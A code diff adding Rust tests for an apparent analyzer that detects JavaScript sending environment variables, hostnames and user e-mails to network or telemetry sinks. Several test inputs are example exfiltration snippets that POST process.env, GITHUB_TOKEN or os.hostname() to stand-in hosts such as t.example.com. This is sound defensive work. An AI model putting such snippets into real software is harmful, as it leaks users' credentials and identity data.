@@ -27,6 +27,50 @@ fn proxy_env_sent_with_request_is_not_identity() {
 }
 
 #[test]
+fn env_read_by_names_from_a_constant_list_is_those_variables() {
+    // qwen-code's git helper copies PATH, TEMP, … into a child's environment; the same object
+    // later reaches a request only through its URL.
+    let neg = run("const environment = {};
+        for (const key of ['PATH', 'SystemRoot', 'TEMP', 'TMPDIR']) {
+          const value = process.env[key]; if (value !== undefined) environment[key] = value; }
+        fetch('https://api.example.com/x', { method: 'POST', body: JSON.stringify(environment) });");
+    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+    let names = run("const NAMES = ['USER', 'GITHUB_TOKEN'];
+        const out = {}; for (const k of NAMES) out[k] = process.env[k];
+        fetch('https://t.example.com/c', { method: 'POST', body: JSON.stringify(out) });");
+    let kinds: Vec<_> = names.flows.iter().flat_map(|f| f.kinds.iter()).collect();
+    assert!(kinds.contains(&DataKind::Username), "{:#?}", names.flows);
+    assert!(!kinds.contains(&DataKind::WholeEnvironment), "{:#?}", names.flows);
+    // Any name at all is the whole environment.
+    let pos = run("const out = {}; for (const k in process.env) out[k] = process.env[k];
+        fetch('https://t.example.com/c', { method: 'POST', body: JSON.stringify(out) });");
+    assert!(
+        pos.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::WholeEnvironment)),
+        "{:#?}",
+        pos.flows
+    );
+}
+
+#[test]
+fn route_handler_gets_a_client_request_not_the_server() {
+    let neg = run("const express = require('express'); const app = express();
+        app.locals.cwd = process.cwd();
+        app.get('/suggest', async (req, res) => { const u = new URL(req.query.daemon);
+          res.json(await (await fetch(`${u.origin}/paths`)).json()); });");
+    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+    // An emitter's callback still receives what it works on.
+    let pos = run("const os = require('os'); const s = require('stream').Readable.from([os.hostname()]);
+        s.on('data', d => fetch('https://t.example.com/?h=' + d));");
+    assert!(
+        pos.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)),
+        "{:#?}",
+        pos.flows
+    );
+}
+
+#[test]
 fn whole_env_posted_through_request_handle() {
     let f = run("const env = process.env; const https = require('https'); const r = https.request({host: 'x.example.com', method: 'POST'}); r.write(JSON.stringify(env)); r.end();");
     assert!(
@@ -329,6 +373,27 @@ fn identity_under_a_telemetry_attribute_key_is_a_flow() {
 }
 
 #[test]
+fn value_under_an_e_mail_attribute_key_is_the_users_e_mail() {
+    // gemini-cli's common telemetry attributes: the cached Google account, read through an
+    // account manager, stored as `user.email`.
+    let f = run("function getCommonAttributes(config) {
+          const email = userAccountManager.getCachedGoogleAccount();
+          return { 'session.id': config.getSessionId(), ...email && { 'user.email': email } };
+        }");
+    assert!(
+        f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Email)
+            && fl.sink == SinkKind::TelemetryAttribute
+            && fl.steps[0].what.contains("user.email")),
+        "{:#?}",
+        f.flows
+    );
+    // A constant address, or an `email` key of an ordinary object, is no user's e-mail.
+    let neg = run("const a = { 'user.email': 'noreply@example.com' };
+        const form = { email: input.value, name: input.name };");
+    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+}
+
+#[test]
 fn non_identity_under_a_telemetry_attribute_key_is_quiet() {
     let f = run("const attrs = { serverName: 'api', 'host.name': cfg.name };");
     assert!(f.flows.is_empty(), "{:#?}", f.flows);
@@ -482,6 +547,38 @@ fn object_argument_fields_reach_parameter_reads() {
         function send(opts) { fetch(opts.url); }
         send({ url: 'https://t.example.com/e', body: os.hostname() });");
     assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+}
+
+#[test]
+fn fields_of_a_local_passed_by_name_stay_apart() {
+    // claude-code's relay: a CA-bundle path under the home directory sits in the same options
+    // object as the base URL; the callee destructures the URL and fetches it.
+    let neg = run("const os = require('os'), path = require('path');
+        async function connect(e) { const { baseUrl: i, caBundlePath: u } = e;
+          const ws = new WebSocket(i.replace(/^http/, 'ws') + '/ws');
+          return relay(e); }
+        function relay(opts) { return fetch(opts.baseUrl + '/ca-cert'); }
+        const base = process.env.CCR_BASE_URL ?? 'https://api.example.com';
+        const ca = path.join(os.homedir(), '.ccr', 'ca-bundle.crt');
+        const cfg = { baseUrl: base, caBundlePath: ca };
+        connect(cfg);");
+    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+    // The field that holds the data is still carried, and the whole object when passed on.
+    let pos = run("const os = require('os');
+        function report(e) { const { body: b } = e; fetch('https://t.example.com/e', { method: 'POST', body: b }); }
+        function dump(e) { fetch('https://t.example.com/d', { method: 'POST', body: JSON.stringify(e) }); }
+        function both(e) { report(e); dump(e); }
+        const ev = { url: 'https://t.example.com', body: os.hostname() };
+        both(ev);");
+    assert_eq!(
+        pos.flows
+            .iter()
+            .filter(|fl| fl.kinds.contains(DataKind::Hostname))
+            .count(),
+        2,
+        "{:#?}",
+        pos.flows
+    );
 }
 
 #[test]
